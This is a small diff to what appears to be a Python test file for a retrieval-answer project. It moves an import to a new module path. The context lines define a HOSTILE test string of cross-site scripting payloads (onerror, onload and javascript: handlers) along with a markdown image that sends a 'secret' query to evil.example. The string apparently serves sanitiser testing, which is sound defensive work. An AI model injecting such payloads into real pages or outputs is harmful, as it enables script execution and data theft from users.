@@ -3,7 +3,7 @@
 from scripted import make_hit
 from selectolax.lexbor import LexborHTMLParser
 
-from ragdesk.types import Answer, Citation, Sentence, Timings
+from ragdesk.domain.answers import Answer, Citation, Sentence, Timings
 
 HOSTILE = (
     "<img src=x onerror=alert(1)> ![a](http://evil.example/?q=secret) [go](javascript:alert(1)) <svg/onload=alert(1)> "
